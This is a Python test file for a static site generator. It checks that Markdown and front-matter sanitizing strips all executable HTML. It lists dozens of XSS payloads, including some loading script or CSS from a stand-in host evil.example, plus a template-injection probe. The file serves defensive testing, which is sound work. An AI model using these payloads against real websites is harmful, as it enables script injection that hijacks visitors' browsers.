"""Nothing an author writes can run script in a reader's browser.

Markdown bodies go through nh3; front-matter and site.yaml values go through
Jinja's autoescaping. Both are tested against known XSS vectors, and a whole
site is built whose every text value is a payload; the HTML is then parsed
(html.parser) and may hold no script other than the site's own, no event
handler, no script URL and no inline style outside table alignment.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import case_study, image_bytes, without_json_ld
from sitegen.markup import convert as markup
from sitegen.model import urls
from sitegen.model.records import Text

SCRIPT_URL_SCHEMES = {"javascript", "vbscript", "data", "livescript", "mocha", "feed", "jar"}
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "form", "meta", "base", "link", "style", "svg", "math",
                  "frame", "frameset", "applet", "template", "noscript", "input", "button", "textarea", "select",
                  "portal", "audio", "video", "source", "track"}


class Executable(HTMLParser):
    """Everything in an HTML document that could run script or restyle the page."""

    def __init__(self, allow_page_furniture: bool = False, base_path: str = "/"):
        super().__init__(convert_charrefs=True)
        self.page = allow_page_furniture  # a whole page may have its own <meta>, <link> and scripts
        self.base_path = base_path
        self.found: list[str] = []
        self.in_script: dict | None = None
        self.scripts: list[tuple[dict, str]] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script":
            self.in_script = a
            self.scripts.append((a, ""))
        elif tag in DANGEROUS_TAGS and not (self.page and self.furniture(tag, a)):
            self.found.append(f"<{tag} {a}>")
        own_form = self.page and tag == "form" and self.furniture(tag, a)
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "formaction", "xmlns:xlink") or (
                    name == "action" and not own_form):
                self.found.append(f"{tag}[{name}={value!r}]")
            if name == "style" and not (tag in ("td", "th") and _only_alignment(value or "")):
                self.found.append(f"{tag}[style={value!r}]")
            if name == "srcset" and value and not (self.page and all(
                    c.split()[0].startswith(self.base_path + "media/") for c in value.split(","))):
                self.found.append(f"{tag}[srcset={value!r}]")  # only the site's own image files, on its pages
            if name in ("href", "src", "xlink:href", "data", "poster", "action", "content", "background") and value:
                scheme = markup.url_scheme(value if name != "content" else value.split("url=", 1)[-1])
                if scheme in SCRIPT_URL_SCHEMES:
                    self.found.append(f"{tag}[{name}={value!r}]")

    def furniture(self, tag: str, a: dict) -> bool:
        """The page's own head: meta charset/name, stylesheet and icon links (never http-equiv or base)."""
        if tag == "meta":
            return "http-equiv" not in a
        if tag == "link":
            return a.get("rel") in ("stylesheet", "icon", "canonical", "alternate", "preload", "manifest")
        # the theme's search forms (a plain GET to the search page) and its inline maps
        if tag == "form":
            return (a.get("role"), a.get("method"), a.get("action")) == ("search", "get", self.base_path + "search/")
        if tag == "input":
            return a.get("type") == "search" and a.get("name") == "q"
        if tag == "button":
            return a.get("type") == "submit"
        if tag == "select":
            return (a.get("id") or "").startswith("sg-filter-")
        if tag == "svg":
            return (a.get("class") or "").startswith("map ") and a.get("role") == "group"
        if tag == "source":  # the WebP files of a <picture> the site writes for its own images
            return a.get("type") == "image/webp" and "src" not in a
        return False

    def handle_data(self, data):
        if self.in_script is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = None

    def close(self):
        super().close()
        for attrs, text in self.scripts:
            if self.page and attrs.get("type") in ("application/ld+json", "application/json"):
                json.loads(text)  # data (JSON-LD, or the search page's messages), and well-formed
                if "<" in text:
                    self.found.append("a '<' inside a JSON block (it could close the script element)")
            elif self.page and (attrs.get("src") or "").startswith(self.base_path + "static/") and not text.strip():
                continue  # the site's own script file
            else:
                self.found.append(f"<script {attrs}>{text[:60]}")


def _only_alignment(style: str) -> bool:
    parts = [p.strip() for p in style.split(";") if p.strip()]
    return all(p.split(":")[0].strip().lower() == "text-align" for p in parts)


def executable(fragment: str, page: bool = False, base_path: str = "/") -> list[str]:
    parser = Executable(page, base_path)
    parser.feed(fragment)
    parser.close()
    return parser.found


# ---------------------------------------------------------------- Markdown bodies

VECTORS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<p onmouseover\n=alert(1)>x</p>",
    # javascript: and data: URLs, plain and disguised
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java%0ascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # frames, objects, embeds, forms
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    # page-level elements
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    '<table><tr><td style="text-align: left; background: url(javascript:alert(1))">x</td></tr></table>',
    # attr_list
    "# Title {: onclick=\"alert(1)\" }",
    "A paragraph.\n{: onmouseover=\"alert(1)\" style=\"position:fixed\" }",
    "[x](other.md){: href=\"javascript:alert(1)\" }",
    "![x](a.png){: onerror=\"alert(1)\" src=\"x\" }",
    "![x](a.png){: srcset=\"https://evil.example/x.png 2x\" }",
    # pictures: only the ones sitegen writes for its own images
    '<picture><source srcset="https://evil.example/x.webp" type="image/webp"><img src="a.png" alt="x"></picture>',
    '<img src="a.png" srcset="https://evil.example/x.png 2x, javascript:alert(1) 3x" alt="x">',
    '<video><source src="https://evil.example/x.mp4"></video>',
    "## Heading {: #x onfocus=alert(1) tabindex=1 }",
    # parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href='https://example.org/' target=_blank>x</a><template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>` and\n\n    <script>alert(1)</script>\n",
]


@pytest.fixture(scope="module")
def converter():
    return markup.Converter(urls.Urls("https://example.org/showcase/"), {"case-studies/other.md": "case-studies/other/"},
                            frozenset({"case-studies/a.png"}))


@pytest.mark.parametrize("vector", VECTORS)
def test_a_known_xss_vector_leaves_nothing_that_runs(converter, vector):
    html = converter.convert(Text("case-studies/x.md", vector, 1)).html
    assert executable(html) == [], html


@pytest.mark.parametrize("vector", VECTORS)
def test_check_warns_about_what_the_sanitizer_removes(vector):
    """In `sitegen check`, an author learns that the dangerous part will not be published."""
    audit = markup.Converter(urls.Urls("https://example.org/"), {"case-studies/other.md": "case-studies/other/"},
                             frozenset({"case-studies/a.png"}), audit=True)
    rendered = audit.convert(Text("case-studies/x.md", vector, 1))
    audit.md.reset()
    before_sanitizing = audit.md.convert(vector)
    if executable(before_sanitizing):
        assert [p for p in rendered.problems if p.severity == "warning"], (vector, before_sanitizing)


def test_ordinary_markdown_survives_sanitizing(converter):
    body = ("## Results {: #results }\n\nText[^1] with [a link](other.md#top), [the web](https://example.org/a?b=1&c=2), "
            "[mail](mailto:a@example.org) and ![a chart](a.png).\n\n| Left | Right |\n|:-----|------:|\n| a | b |\n\n"
            "[^1]: A note.\n")
    html = converter.convert(Text("case-studies/x.md", body, 1)).html
    assert '<h2 id="results">Results</h2>' in html
    assert 'href="/showcase/case-studies/other/#top"' in html
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html and 'href="mailto:a@example.org"' in html
    assert 'src="/showcase/case-studies/a.png"' in html and 'alt="a chart"' in html
    assert 'style="text-align:left"' in html and 'style="text-align:right"' in html
    assert 'href="#fn:1"' in html and 'id="fn:1"' in html
    assert executable(html) == []


# ---------------------------------------------------------------- front-matter values in every template

PAYLOAD = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}</title></script>&amp;"


def yaml_quoted(text: str) -> str:
    return json.dumps(text)


@pytest.fixture
def hostile_site(site):
    p = yaml_quoted(PAYLOAD)
    site.write("site.yaml", f"""\
title: {p}
description: {p}
base_url: https://example.org/showcase/
language: en
themes:
  - name: {yaml_quoted("Health" + PAYLOAD)}
    id: health-wellbeing
    description: {p}
  - name: Literacy
    description: {p}
""")
    site.write("case-studies/img/photo.jpg", image_bytes("JPEG"))
    site.write("case-studies/kashan-health-tv.md", case_study(
        title=p, city=p, city_native=p, city_native_lang="fa", summary=p, themes="[health-wellbeing, Literacy]",
        image="img/photo.jpg", image_alt=p, image_credit=p, coordinates="[33.99, 51.44]",
        sources=f"\n  - title: {p}\n    url: {yaml_quoted('https://example.org/?q=' + PAYLOAD)}\n"
                f"    publisher: {p}\n    date: {p}",
        body=f"{PAYLOAD}\n\n## {PAYLOAD}\n\n[{PAYLOAD}](other.md)\n"))
    site.write("case-studies/other.md", case_study(title=yaml_quoted("Other " + PAYLOAD), themes="[Literacy]",
                                                   country="PL", body="No summary: this paragraph is one.\n"))
    site.write("pages/about.md", f"---\ntitle: {p}\nsummary: {p}\nmenu: 1\n---\n\n{PAYLOAD}\n")
    site.write("home.md", f"---\ntitle: {p}\nsummary: {p}\n---\n\n{PAYLOAD}\n")
    return site


def test_a_site_made_of_payloads_has_no_executable_injection(hostile_site, build):
    proc, out = build(hostile_site)
    assert proc.returncode == 0, proc.stderr
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        text = page.read_text(encoding="utf-8")
        found = executable(text, page=True, base_path="/showcase/")
        assert found == [], f"{page.relative_to(out)}: {found}"
        rest = without_json_ld(text)
        assert "<script>alert" not in rest and "onerror=alert" not in rest.replace("onerror=alert(2)&gt;", "")
    study = (out / "case-studies" / "kashan-health-tv" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in study  # shown as text, not dropped
    assert "{{7*7}}" in study and "49" not in study.split("<main", 1)[1].split("</main>", 1)[0]
    for xml in out.rglob("*.xml"):
        ET.parse(xml)  # well-formed


# ---------------------------------------------------------------- the audit read off the tree

_LINE_PARTS = st.sampled_from([
    "# ", "## ", "### ", "#### ", "> ", "- ", "1. ", "    ", "", "", "",
])
_INLINE_PARTS = st.sampled_from([
    "word", "Kashan's \"TV\"", "*emphasis*", "**strong**", "`code`", "\\*", "&amp;", "&copy;", "TODO", "--",
    "[a link](other.md)", "[gone](missing.md)", "[script](javascript:alert(1))", "[mail](mailto:a@b.org)",
    "[web](https://example.org/x?a=1&b=2)", "![](photo.jpg)", "![A crowd](photo.jpg)", "[^1]", "...",
    "[data](data:text/html,x)", "[rooted](/themes/)", "[vb](VBScript:x)", "'quoted'",
])
_BODIES = st.lists(st.tuples(_LINE_PARTS, st.lists(_INLINE_PARTS, min_size=1, max_size=5),
                             st.sampled_from(["\n", "\n\n"])), min_size=1, max_size=12).map(
    lambda lines: "".join(prefix + " ".join(parts) + end for prefix, parts, end in lines) + "\n[^1]: A note.\n")


@settings(max_examples=300, deadline=None, derandomize=True)
@given(body=_BODIES)
def test_the_audit_read_off_the_tree_finds_what_parsing_the_html_finds(body):
    """A body without raw HTML or attribute lists is audited off Python-Markdown's tree (no second
    parse of the HTML); the problems, headings and HTML must be those the parse gives."""
    def converter(tree: bool) -> markup.Converter:
        made = markup.Converter(urls.Urls("https://example.org/showcase/"), {"case-studies/other.md": "other/"},
                                frozenset({"case-studies/photo.jpg"}), pages=frozenset({"", "themes/"}),
                                audit=True)
        if not tree:
            made.md.treeprocessors.deregister("sitegen-audit")
        return made

    text = Text("case-studies/a.md", body, 9)
    assert converter(tree=True).convert(text) == converter(tree=False).convert(text)
